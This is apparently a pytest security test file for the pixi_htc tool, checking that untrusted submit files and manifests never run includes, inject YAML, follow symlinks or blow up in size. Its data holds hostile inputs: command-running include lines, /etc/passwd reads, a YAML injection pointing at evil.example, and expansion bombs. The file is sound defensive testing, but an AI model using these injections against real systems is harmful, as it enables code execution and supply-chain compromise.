"""init, status and results on files someone else wrote (issue #19): nothing in a submit file is
executed or included, no foreign text becomes live spec text, nothing is written through a link,
and every bad value is reported with its line instead of crashing."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from ruamel.yaml import YAML

from tests.conftest import CHILD_PYTHONPATH, run_cli

BASE = """\
executable = run.sh
request_cpus = 1
request_memory = 2GB
"""


def _canary(tmp_path: Path) -> Path:
    return tmp_path.parent / f"{tmp_path.name}-PWNED"


# Every spelling of HTCondor's include that executes a command or reads a file.
INCLUDES = [
    "include command : touch {canary}",
    "include : touch {canary} |",
    "INCLUDE COMMAND : touch {canary}",
    "include command into out.txt : touch {canary}",
    "include ifexist : /etc/passwd",
    "include : /etc/passwd",
    "Include:/etc/passwd",
    "inc\\\nlude command : touch {canary}",
    "include \\\ncommand : touch {canary}",
    "if true\ninclude command : touch {canary}\nendif",
    "if version >= 9.0\nrequest_cpus = 2\nelse\nrequest_cpus = 3\nendif",
]


@pytest.mark.parametrize("line", INCLUDES)
def test_init_never_runs_or_reads_an_include(tmp_path: Path, line: str) -> None:
    canary = _canary(tmp_path)
    text = BASE + line.format(canary=canary) + "\nqueue\n"
    (tmp_path / "job.sub").write_text(text)
    result = run_cli("init", "--from", "job.sub", cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    assert not canary.exists() and not (tmp_path / "out.txt").exists()
    assert not (tmp_path / "specs").exists()  # nothing written
    # Located: the line where the include (or a conditional init cannot decide) starts; `if true` is decided.
    assert f"job.sub:{BASE.count(chr(10)) + 1 + line.startswith('if true')}: " in result.stderr
    assert "root:" not in result.stdout + result.stderr  # /etc/passwd never read into anything


def test_status_and_results_never_parse_an_edited_sub(project_dir: Path) -> None:
    """build/ arrives in pull requests: an include added to a committed .sub is never run."""
    canary = _canary(project_dir)
    assert run_cli("build", cwd=project_dir).returncode == 0
    for sub in (project_dir / "build" / "htcondor").glob("*.sub"):
        sub.write_text(f"include command : touch {canary}\n" + sub.read_text())
    for command in (["status", "--no-schedd"], ["results", "--no-plots"], ["submit", "--dry-run"]):
        run_cli(*command, cwd=project_dir)
        assert not canary.exists(), command


def _spec(root: Path) -> dict:
    return YAML(typ="safe").load((root / "specs" / "project.yaml").read_text())


@pytest.mark.parametrize("breaker", ["\n", "\r", "\u2028", "\u0085", "\u2029", "\x1b[2J"])
def test_foreign_text_never_becomes_live_spec_text(tmp_path: Path, breaker: str) -> None:
    """A value init cannot carry is quoted in the spec's header; a line break in it must not end the
    comment (the rest would be live YAML: here a `ci` key that installs from an attacker's URL)."""
    evil = f"1.5{breaker}ci: {{pixi_htc: 'https://evil.example/x.whl'}}"
    (tmp_path / "job.sub").write_text(BASE + f"request_gpus = {evil}\nqueue\n")
    result = run_cli("init", "--from", "job.sub", cwd=tmp_path)
    if breaker == "\n":  # a new line of the submit file, and not a command: located, nothing written
        assert result.returncode == 2 and "job.sub:5: not a submit command" in result.stderr
        assert not (tmp_path / "specs").exists()
        return
    assert result.returncode == 0, result.stderr
    spec = _spec(tmp_path)
    assert set(spec) == {"schema_version", "name", "source", "jobs"}
    assert "job.sub:4: request_gpus = 1.5" in (tmp_path / "specs" / "project.yaml").read_text()
    for raw in ("\r", "\u2028", "\u0085", "\x1b"):
        assert raw not in result.stderr + result.stdout


def test_a_file_name_with_a_line_break_stays_in_its_comment(tmp_path: Path) -> None:
    name = "x\nci:\n  pixi_htc: evil\n.sub"
    (tmp_path / name).write_text(BASE + "queue\n")
    result = run_cli("init", "--from", name, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "ci" not in _spec(tmp_path)


def test_numbers_that_are_not_numbers_are_reported_with_their_line(tmp_path: Path) -> None:
    text = (
        "executable = run.sh\nrequest_cpus = $(n)\nrequest_gpus = 1.5\nmax_retries = $(r)\n"
        "checkpoint_exit_code = eighty-five\ngpus_minimum_capability = $(cap)\nqueue n in (1 2)\n"
    )
    (tmp_path / "job.sub").write_text(text)
    result = run_cli("init", "--from", "job.sub", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    for line, key in (
        (2, "request_cpus"),
        (3, "request_gpus"),
        (4, "max_retries"),
        (5, "checkpoint_exit_code"),
        (6, "gpus_minimum_capability"),
    ):
        assert f"not carried over: job.sub:{line}: {key} = " in result.stderr
    job = _spec(tmp_path)["jobs"]["job"]
    assert job["sweep"] == {"n": ["1", "2"]} and job["resources"] == {"gpus": 0}


def test_macros_are_expanded_once_and_bounded(tmp_path: Path) -> None:
    """Nested macros that double at each level: 2**40 characters if expanded naively."""
    names = [f"m{i}" for i in range(41)]
    lines = [f"{a} = $({b})$({b})" for a, b in zip(names, names[1:])] + [f"{names[-1]} = x"]
    text = "executable = run.sh\n" + "\n".join(lines) + "\narguments = $(m0) $(who:world) $ENV(HOME)\nqueue\n"
    (tmp_path / "job.sub").write_text(text)
    result = subprocess.run(
        [sys.executable, "-m", "pixi_htc", "init", "--from", "job.sub"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": CHILD_PYTHONPATH},
        timeout=60,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert "its expansion is over" in result.stderr
    command = _spec(tmp_path)["jobs"]["job"]["command"]
    assert command[:2] == ["sh", "run.sh"] and "world" in command  # $(name:default) takes its default
    assert os.environ.get("HOME", "/root") not in command  # $ENV() is never evaluated
    assert (tmp_path / "specs" / "project.yaml").stat().st_size < 200_000


def test_a_self_referencing_macro_stays_as_written(tmp_path: Path) -> None:
    (tmp_path / "job.sub").write_text("executable = run.sh\na = $(b)\nb = $(a)\narguments = $(a)\nqueue\n")
    result = run_cli("init", "--from", "job.sub", cwd=tmp_path)
    assert result.returncode == 0, result.stderr


def test_init_never_writes_through_a_linked_specs_directory(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    project = tmp_path / "project"
    elsewhere.mkdir()
    project.mkdir()
    (project / "specs").symlink_to(elsewhere)
    result = run_cli("init", cwd=project)
    assert result.returncode == 2 and "symbolic link" in result.stderr
    assert list(elsewhere.iterdir()) == []
    (project / "specs").unlink()
    (project / "specs").mkdir()
    (project / "specs" / "project.schema.json").symlink_to(elsewhere / "target.json")
    result = run_cli("init", cwd=project)
    assert result.returncode == 2 and list(elsewhere.iterdir()) == []


def test_init_from_a_fifo_does_not_block(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "job.sub")
    result = subprocess.run(
        [sys.executable, "-m", "pixi_htc", "init", "--from", "job.sub"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": CHILD_PYTHONPATH},
        timeout=60,
        check=False,
    )
    assert result.returncode == 2 and "named pipe" in result.stderr


@pytest.mark.parametrize("name", ["job.submit", "job.cmd", "job.condor", "job.jdl", "submit"])
def test_a_submit_file_is_read_whatever_its_name(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text(BASE + "queue\n")
    result = run_cli("init", "--from", name, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert _spec(tmp_path)["jobs"]


def test_a_huge_inline_queue_table_is_judged_without_its_product(tmp_path: Path) -> None:
    """Rows of distinct values in three columns: the product would be rows**3 combinations."""
    rows = "\n".join(f"a{i}, b{i}, c{i}" for i in range(20_000))
    (tmp_path / "job.sub").write_text(BASE + f"arguments = $(x) $(y) $(z)\nqueue x, y, z from (\n{rows}\n)\n")
    result = subprocess.run(
        [sys.executable, "-m", "pixi_htc", "init", "--from", "job.sub"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": CHILD_PYTHONPATH},
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    job = _spec(tmp_path)["jobs"]["job"]
    assert job["sweep_from"] == {"file": "specs/job.queue.txt", "variables": ["x", "y", "z"]}
    assert (tmp_path / "specs" / "job.queue.txt").read_text().splitlines()[-1] == "a19999, b19999, c19999"


def test_queue_matching_lists_only_the_project_never_through_a_link(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.csv").write_text("x\n")
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "linked").symlink_to(outside)
    (repo / "run.sh").write_text("echo\n")
    (repo / "a.csv").write_text("a\n")
    for pattern, said in (
        ("../outside/*.csv", "outside the project"),
        ("linked/*.csv", "symbolic link"),
        ("*/*.csv", "a wildcard in a directory"),
    ):
        (repo / "job.sub").write_text(BASE + f"arguments = $(f)\nqueue f matching files {pattern}\n")
        result = run_cli("init", "--from", "job.sub", cwd=repo)
        assert result.returncode == 0, result.stderr
        spec = (repo / "specs" / "project.yaml").read_text()
        assert said in result.stderr and "secret" not in spec, (pattern, result.stderr)
        for name in ("project.yaml", "project.schema.json"):
            (repo / "specs" / name).unlink()


def test_a_slurm_script_links_no_file_from_outside_the_project(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "data.csv").write_text("x\n")
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "shared").symlink_to(outside)
    (repo / "train.py").write_text("print(1)\n")
    (repo / "job.sh").write_text(
        "#!/bin/bash\n#SBATCH --gres=gpu:1\npython train.py --data shared/data.csv "
        "--ref ../outside/data.csv /etc/passwd ~/x\n"
    )
    result = run_cli("init", "--from", "job.sh", cwd=repo)
    assert result.returncode == 0, result.stderr
    spec = YAML(typ="safe").load((repo / "specs" / "project.yaml").read_text())
    assert spec["source"] == ["job.sh", "train.py"]


def _bounded_init(cwd: Path, source: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "pixi_htc", "init", "--from", source],
        cwd=cwd,
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": CHILD_PYTHONPATH},
        timeout=60,
        check=False,
    )


PIXI_HEAD = '[workspace]\nname = "deep"\nchannels = ["conda-forge"]\nplatforms = ["linux-64"]\n\n[tasks]\n'


def test_a_manifest_nested_50000_deep_is_refused_where_it_passes_the_bound(tmp_path: Path) -> None:
    """Found in the text before Python's TOML reader (which recurses per level) sees it: the line
    and column of the bracket that passes 32 levels, with the key it belongs to."""
    (tmp_path / "pixi.toml").write_text(PIXI_HEAD + "train = " + "[" * 50_000 + "]" * 50_000 + "\n")
    result = _bounded_init(tmp_path, "pixi.toml")
    assert result.returncode == 2, result.stderr
    # tasks.train is two levels; the 31st bracket takes it to 33, at column len("train = ") + 31.
    assert result.stderr.strip() == (
        "pixi-htc: pixi.toml:7:39: tasks.train: nests deeper than 32 levels; not a pixi manifest"
    )
    assert not (tmp_path / "specs").exists()


def test_nesting_spread_over_lines_is_located_on_its_own_line(tmp_path: Path) -> None:
    body = "train = [\n" + "{ a = [\n" * 25_000 + "1" + "] }\n" * 25_000 + "]\n"
    (tmp_path / "pixi.toml").write_text(PIXI_HEAD + body)
    result = _bounded_init(tmp_path, "pixi.toml")
    assert result.returncode == 2, result.stderr
    # Line 7 opens level 3; each `{ a = [` line opens two more: the 15th of them (line 22) passes 32
    # at its `[` (column 7).
    assert "pixi-htc: pixi.toml:22:7: tasks.train: nests deeper than 32 levels" in result.stderr


def test_a_manifest_within_the_bound_is_still_read(tmp_path: Path) -> None:
    (tmp_path / "pixi.toml").write_text(
        PIXI_HEAD + 'train = { cmd = ["python", "train.py"], depends-on = ["prep"] }\nprep = "python prep.py"\n'
    )
    result = _bounded_init(tmp_path, "pixi.toml")
    assert result.returncode == 0, result.stderr
    assert set(_spec(tmp_path)["tasks"]) == {"train", "prep"}


@pytest.mark.parametrize(
    "extra, where, why",
    [
        ("arguments = " + "A" * 3_000_000, 4, "a command of 3,000,009 characters (init carries up to 64 KiB in one)"),
        ("transfer_input_files = " + ", ".join(f"f{i}" for i in range(375_000)), 4, "a command of "),
        (
            "transfer_input_files = " + ",".join(f"f{i}" for i in range(3_000)),
            4,
            "a list of 3,000 entries (init carries up to 2,000); name a directory instead",
        ),
        ("\n".join(f"key{i} = value{i}" for i in range(150_000)), 2001, "over 2,000 commands"),
        ("\n".join(f'+Tag{i} = "{"v" * 60_000}"' for i in range(8)), 8, "the commands so far hold over 256 KiB"),
    ],
    # short names: a test's id reaches its subprocesses' environment (PYTEST_CURRENT_TEST), bounded in size
    ids=["3MB-arguments", "375k-inputs", "3000-inputs", "150k-commands", "480KB-ads"],
)
def test_a_submit_file_that_would_take_minutes_to_carry_is_refused_at_its_line(
    tmp_path: Path, extra: str, where: int, why: str
) -> None:
    """Each of these once made init run for a minute or more (a YAML dump of a 375,000-entry list)."""
    (tmp_path / "job.sub").write_text(BASE + extra + "\nqueue\n")
    started = time.monotonic()
    result = _bounded_init(tmp_path, "job.sub")
    assert time.monotonic() - started < 30
    assert result.returncode == 2, result.stderr
    assert result.stderr.startswith(f"pixi-htc: job.sub:{where}: {why}"), result.stderr[:300]
    assert result.stderr.rstrip().endswith("init reads no further")
    assert not (tmp_path / "specs").exists()


def test_a_submit_file_at_the_bounds_is_carried_whole(tmp_path: Path) -> None:
    files = ", ".join(f"data/f{i}.csv" for i in range(2_000))
    (tmp_path / "job.sub").write_text(BASE + f"transfer_input_files = {files}\narguments = {'x' * 60_000}\nqueue\n")
    result = _bounded_init(tmp_path, "job.sub")
    assert result.returncode == 0, result.stderr
    job = _spec(tmp_path)["jobs"]["job"]
    assert len(job["inputs"]) == 2_000 and job["inputs"][-1] == "data/f1999.csv"


def test_many_refused_lines_are_listed_twenty_then_counted(tmp_path: Path) -> None:
    (tmp_path / "job.sub").write_text(BASE + "include : x.sub\n" * 5_000 + "queue\n")
    result = _bounded_init(tmp_path, "job.sub")
    assert result.returncode == 2
    lines = result.stderr.strip().split("\n")
    assert len(lines) == 21 and lines[0].startswith("pixi-htc: job.sub:4: an `include` line")
    assert lines[-1] == "pixi-htc: job.sub: 4,980 more lines refused as the ones above"


@pytest.mark.parametrize("hidden", ["\u202e", "\u2066", "\u2069", "\u200b", "\u200f", "\ufeff", "\u061c"])
def test_bidirectional_and_invisible_characters_are_shown_escaped(tmp_path: Path, hidden: str) -> None:
    """`Trojan Source`: a right-to-left override makes `evil` read as another word on the terminal."""
    (tmp_path / "job.sub").write_text(BASE + f"x{hidden}evil = 1\nqueue\n")
    result = run_cli("init", "--from", "job.sub", cwd=tmp_path)
    assert result.returncode == 2
    assert hidden not in result.stdout + result.stderr
    assert f"x\\u{ord(hidden):04x}evil" in result.stderr


# Every refusal of a foreign file says which it is in `kind`; callers word it by that, not by the
# message's words (sweep_list once matched "link" in the text).


def test_each_refusal_of_a_foreign_file_has_its_kind(tmp_path: Path) -> None:
    from pixi_htc.core.foreign import ForeignFileError, read_bytes, read_text

    root = tmp_path / "root"
    (root / "real").mkdir(parents=True)
    (root / "real" / "f.txt").write_text("x")
    (root / "linked").symlink_to(root / "real")
    (root / "link.txt").symlink_to(root / "real" / "f.txt")
    os.mkfifo(root / "fifo")
    (root / "big.txt").write_text("x" * 100)
    (root / "latin1.txt").write_bytes(b"caf\xe9")
    cases = {
        "link": lambda: read_bytes(root / "linked" / "f.txt", 10, within=root),
        "outside": lambda: read_bytes(tmp_path / "elsewhere.txt", 10, within=root),
        "missing": lambda: read_bytes(root / "none.txt", 10),
        "not-regular": lambda: read_bytes(root / "fifo", 10),
        "too-large": lambda: read_text(root / "big.txt", 10),
        "not-utf8": lambda: read_text(root / "latin1.txt", 10),
    }
    for kind, attempt in cases.items():
        with pytest.raises(ForeignFileError) as raised:
            attempt()
        assert raised.value.kind == kind, (kind, str(raised.value))
    with pytest.raises(ForeignFileError) as raised:
        read_bytes(root / "link.txt", 10)
    assert raised.value.kind == "link"


def test_a_sweep_list_refused_as_a_link_is_worded_by_its_kind(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Whatever foreign's message says, a link refusal reads as one, and another refusal keeps its words."""
    from pixi_htc.core import foreign
    from pixi_htc.spec import sweep_list

    def refuse(kind: foreign.Refusal, words: str):
        def read(*args: object, **kwargs: object) -> None:
            raise foreign.ForeignFileError(words, kind)

        return read

    monkeypatch.setattr(sweep_list, "read_bytes", refuse("link", "is reached by way of another name"))
    assert sweep_list._read(tmp_path, "lists/a.txt", "build", needed=False) == (
        None,
        "'lists/a.txt' is a symbolic link or leads outside the project; name the file itself",
    )
    monkeypatch.setattr(
        sweep_list, "read_bytes", refuse("not-regular", "is a named pipe (FIFO), not a regular file (no link here)")
    )
    assert sweep_list._read(tmp_path, "lists/a.txt", "build", needed=False) == (
        None,
        "'lists/a.txt' is a named pipe (FIFO), not a regular file (no link here)",
    )


# Found by the file fuzz at 400 examples per command (issue #19's closing run).


@pytest.mark.parametrize("breaker", ["\x85", "\u2028", "\u2029", "\r", "\x1b"])
def test_a_line_break_in_a_carried_value_is_written_as_an_escape(tmp_path: Path, breaker: str) -> None:
    """A folder name with U+0085 became a task's cwd; ruamel wrote it raw and folded the line there
    (a line break to a YAML 1.1 reader). It is written double-quoted, as an escape, and reads back
    as it was."""
    folder = tmp_path / f"repo{breaker}ci: evil"
    folder.mkdir()
    (folder / "pixi.toml").write_text(PIXI_HEAD + 'train = "python train.py"\n')
    result = run_cli("init", "--from", f"repo{breaker}ci: evil/pixi.toml", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    text = (tmp_path / "specs" / "project.yaml").read_text(encoding="utf-8")
    assert breaker not in text
    assert _spec(tmp_path)["tasks"]["train"]["cwd"] == f"repo{breaker}ci: evil"


def test_a_macro_that_expands_to_a_name_too_long_for_the_system_is_no_crash(tmp_path: Path) -> None:
    lines = ["m0 = xxxxxxxxxxxxxxxx", *(f"m{i} = $(m{i - 1})$(m{i - 1})$(m{i - 1})" for i in range(1, 24))]
    (tmp_path / "job.sub").write_text(
        "executable = run.sh\n" + "\n".join(lines) + "\nlog = $(m5)$(m5)\ntransfer_input_files = $(m6)\nqueue\n"
    )
    result = _bounded_init(tmp_path, "job.sub")
    assert result.returncode in (0, 2) and "internal error" not in result.stderr, result.stderr


@pytest.mark.parametrize("name", ["job.sub", "pixi.toml"])
def test_a_file_over_the_size_limit_is_refused_at_the_line_that_passes_it(tmp_path: Path, name: str) -> None:
    line = "# " + "x" * 98 + "\n"  # 101 bytes
    (tmp_path / name).write_text(line * 50_000)
    result = _bounded_init(tmp_path, name)
    assert result.returncode == 2
    passes = (4 * 1024 * 1024) // len(line) + 1
    assert result.stderr.startswith(f"pixi-htc: {name}:{passes}: is over 4 MiB (line {passes} passes it); "), (
        result.stderr
    )


def test_a_manifest_table_of_50000_keys_is_refused_at_its_line(tmp_path: Path) -> None:
    """Renaming 50,000 task names once took a minute (each rename looked at every name before it)."""
    tasks = ", ".join(f"k{i} = {i}" for i in range(50_000))
    (tmp_path / "pixi.toml").write_text(PIXI_HEAD.replace("[tasks]\n", "") + f"[feature.gpu]\ntasks = {{{tasks}}}\n")
    started = time.monotonic()
    result = _bounded_init(tmp_path, "pixi.toml")
    assert time.monotonic() - started < 30
    assert result.returncode == 2
    assert result.stderr.strip() == (
        "pixi-htc: pixi.toml:7: feature.gpu.tasks: holds 50,000 keys or items, over the "
        "4,096 init reads in one; not a pixi manifest"
    )
